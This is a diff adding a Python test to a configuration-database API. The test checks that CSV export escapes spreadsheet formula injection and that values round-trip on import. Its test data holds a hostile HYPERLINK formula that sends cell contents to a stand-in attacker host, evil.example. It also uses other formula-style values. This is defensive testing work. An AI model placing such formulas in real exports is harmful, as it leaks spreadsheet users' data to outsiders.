@@ -353,3 +353,31 @@ def test_api_shape_columns_follow_the_model(shape: type[BaseModel], model: type[
     named = {FIELD_OF_NAME.get(name, name) for name in shape.model_fields} - derived
 
     assert {field.name for field in model._meta.concrete_fields} == named | not_named
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
+
+
+def test_an_exported_formula_is_text_and_imports_back_as_it_was(
+    api: Api, config_manager: User, requester: User, ci_types: dict[str, CIType]
+) -> None:
+    manager = api(config_manager)
+    created = manager.post(
+        "/cis",
+        {"name": FORMULA, "type": "server", "aliases": ["@SUM(1)", "ok"], "location": "-1 floor", "description": "'=x"},
+    )
+
+    exported = b"".join(api(requester).get("/cmdb/export/cis").streaming_content).decode()
+    deleted = manager.delete(f"/cis/{created.json()['id']}")
+    imported, again = (
+        manager.client.post("/api/v1/cmdb/import/cis", exported, content_type="text/csv", headers=manager.headers)
+        for _ in range(2)
+    )
+
+    [row] = exported.splitlines()[1:]
+    assert row.startswith("\"'=HYPERLINK(")
+    assert ",'-1 floor,'@SUM(1);ok," in row
+    assert row.endswith(",''=x")
+    assert (deleted.status_code, imported.json()["created"], again.json()["unchanged"]) == (204, 1, 1)
+    ci = ConfigurationItem.objects.get(name=FORMULA)
+    assert (ci.aliases, ci.location, ci.description) == (["@SUM(1)", "ok"], "-1 floor", "'=x")
